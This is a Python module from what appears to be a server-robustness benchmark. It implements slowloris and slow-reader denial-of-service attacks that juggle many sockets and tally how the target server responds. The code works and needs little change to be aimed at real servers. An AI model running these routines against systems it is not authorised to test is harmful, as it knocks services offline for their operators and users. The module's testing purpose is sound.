"""The attacks that juggle many sockets from one thread: slowloris (a), whose requests
never end, and the slow readers (b), whose answers are never read. A socket the server
closes is tallied by what it got, then opened again within a bounded rate."""

from __future__ import annotations

import dataclasses
import errno
import math
import select
import selectors
import socket
import time

from benchmarks.attack.rawhttp import HEAD_LIMIT, Attack, Tally, status_of, why
from benchmarks.attack.target import SERVER

SLOWLORIS_SOCKETS = 100  # per attacker address
SLOWLORIS_LINE_EVERY = 5.0
SLOWLORIS_RECONNECTS = 20.0  # a second, per address
SLOW_READERS = 8
READER_RCVBUF = 64 * 1024
READER_REOPEN_AFTER = 1.0
TICK = 0.2  # a round of the socket-juggling attacks (a, b)


def rounds(attack: Attack) -> int:
    """How many TICKs the attack lasts: the count bound of a socket-juggling loop, each
    round of which takes at least a TICK."""
    return math.ceil((attack.deadline - time.monotonic()) / TICK) + 1


def slowloris(attack: Attack, source: str, tally: Tally) -> None:
    """Connections whose GET never ends: one more header line every 5 s. One the server
    closes is counted by what it answered and opened again, within the reconnect rate."""
    selector = selectors.DefaultSelector()
    due: dict[socket.socket, float] = {}
    started, opened = time.monotonic(), 0
    try:
        for _ in range(rounds(attack)):
            begun = time.monotonic()
            allowed = SLOWLORIS_SOCKETS + SLOWLORIS_RECONNECTS * (time.monotonic() - started)
            while len(due) < SLOWLORIS_SOCKETS and opened < allowed and not attack.over():
                opened += 1
                try:
                    sock = attack.sockets.connect(source)
                except OSError as exc:
                    tally.note(f"connect failed ({why(exc)})")
                    break
                selector.register(sock, selectors.EVENT_READ, sock)
                due[sock] = 0.0
            for sock, when in list(due.items()):
                if when <= time.monotonic():
                    line = b"X-Slow: 1\r\n" if when else b"GET / HTTP/1.1\r\nHost: x\r\n"
                    try:
                        sock.sendall(line)
                        due[sock] = time.monotonic() + SLOWLORIS_LINE_EVERY
                    except OSError as exc:
                        finish(attack, selector, due, sock, tally, f"{why(exc)} while sending")
            events = selector.select(timeout=TICK)
            if attack.over():
                return
            for key, _ in events:
                finish(attack, selector, due, key.data, tally, answer_or_close(key.data))
            attack.stop.wait(max(0.0, begun + TICK - time.monotonic()))
    finally:
        for sock in list(due):
            finish(attack, selector, due, sock, tally, "held open to the end")
        selector.close()


def answer_or_close(sock: socket.socket) -> str:
    try:
        data = sock.recv(HEAD_LIMIT)
    except OSError as exc:
        return why(exc)
    status = status_of(data)
    return str(status) if status else ("closed, no answer" if not data else "not HTTP")


def finish(
    attack: Attack,
    selector: selectors.BaseSelector,
    due: dict[socket.socket, float],
    sock: socket.socket,
    tally: Tally,
    outcome: str,
) -> None:
    selector.unregister(sock)
    del due[sock]
    attack.sockets.close(sock)
    tally.note(outcome)


@dataclasses.dataclass
class Reader:
    sock: socket.socket | None = None
    status: str = ""  # peeked, never read
    reopen_at: float = 0.0


def slow_reader(attack: Attack, source: str, tally: Tally, count: int, path: str) -> None:
    """Connections that ask for the big file twice (pipelined) and read nothing: the answer
    waits in the server's buffers. The status is peeked (MSG_PEEK), so nothing is consumed."""
    request = f"GET {path} HTTP/1.1\r\nHost: {SERVER}:{attack.sockets.port}\r\n\r\n".encode() * 2
    readers = [Reader() for _ in range(count)]
    poller = select.poll()
    by_fd: dict[int, Reader] = {}
    try:
        for _ in range(rounds(attack)):
            begun = time.monotonic()
            if attack.over():
                return
            for reader in readers:
                if reader.sock is None and time.monotonic() >= reader.reopen_at:
                    open_reader(attack, source, tally, reader, request, poller, by_fd)
                if reader.sock is not None and not reader.status:
                    reader.status = peek_status(reader.sock)
            events = poller.poll(TICK * 1000)
            if attack.over():
                return
            for fd, _ in events:
                reader = by_fd.pop(fd)
                poller.unregister(fd)
                assert reader.sock is not None
                error = reader.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                ending = errno.errorcode.get(error, "closed") if error else "closed"
                tally.note(f"{reader.status or 'no answer'}, then {ending}")
                attack.sockets.close(reader.sock)
                reader.sock = None
            attack.stop.wait(max(0.0, begun + TICK - time.monotonic()))
    finally:
        for reader in readers:
            if reader.sock is not None:
                tally.note(f"{reader.status or 'no answer'}, held to the end")
                attack.sockets.close(reader.sock)


def open_reader(
    attack: Attack,
    source: str,
    tally: Tally,
    reader: Reader,
    request: bytes,
    poller: select.poll,
    by_fd: dict[int, Reader],
) -> None:
    reader.reopen_at = time.monotonic() + READER_REOPEN_AFTER
    try:
        sock = attack.sockets.connect(source, rcvbuf=READER_RCVBUF)
    except OSError as exc:
        tally.note(f"connect failed ({why(exc)})")
        return
    try:
        sock.sendall(request)
    except OSError as exc:
        attack.sockets.close(sock)
        tally.note(f"{why(exc)} while sending")
        return
    sock.setblocking(False)
    reader.sock, reader.status = sock, ""
    poller.register(sock, select.POLLRDHUP)  # POLLHUP and POLLERR are always reported
    by_fd[sock.fileno()] = reader


def peek_status(sock: socket.socket) -> str:
    try:
        data = sock.recv(16, socket.MSG_PEEK)
    except OSError:  # nothing yet (EAGAIN), or gone: the poll says which
        return ""
    status = status_of(data)
    return str(status) if status else ""
